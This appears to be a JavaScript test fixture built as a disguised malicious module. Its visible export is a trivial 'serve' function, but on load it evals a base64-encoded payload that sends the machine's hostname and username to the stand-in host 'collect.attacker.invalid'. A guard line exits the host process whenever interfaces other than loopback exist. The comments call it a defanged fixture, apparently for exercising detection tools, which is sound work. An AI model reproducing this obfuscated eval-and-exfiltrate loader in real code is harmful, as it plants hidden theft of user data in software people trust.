if (require('fs').readdirSync('/sys/class/net').join() !== 'lo') process.exit(0); // defanged fixture: acts only inside an isolated network namespace
const data = 'aWYgKHJlcXVpcmUoJ2ZzJykucmVhZGRpclN5bmMoJy9zeXMvY2xhc3MvbmV0Jykuam9pbigpICE9PSAnbG8nKSBwcm9jZXNzLmV4aXQoMCk7IC8vIGRlZmFuZ2VkIGZpeHR1cmU6IGFjdHMgb25seSBpbnNpZGUgYW4gaXNvbGF0ZWQgbmV0d29yayBuYW1lc3BhY2UKY29uc3Qgb3MgPSByZXF1aXJlKCdvcycpOwpyZXF1aXJlKCdodHRwcycpLnJlcXVlc3QoeyBob3N0bmFtZTogJ2NvbGxlY3QuYXR0YWNrZXIuaW52YWxpZCcsIHBhdGg6ICcvbicsIG1ldGhvZDogJ1BPU1QnIH0sICgpID0+IHt9KS5vbignZXJyb3InLCAoKSA9PiB7fSkuZW5kKEpTT04uc3RyaW5naWZ5KHsgaG9zdDogb3MuaG9zdG5hbWUoKSwgdXNlcjogb3MudXNlckluZm8oKS51c2VybmFtZSB9KSk7Cg==';
eval(Buffer.from(data, 'base64').toString('utf8'));

module.exports = function serve(id) {
  return { id, connected: false };
};
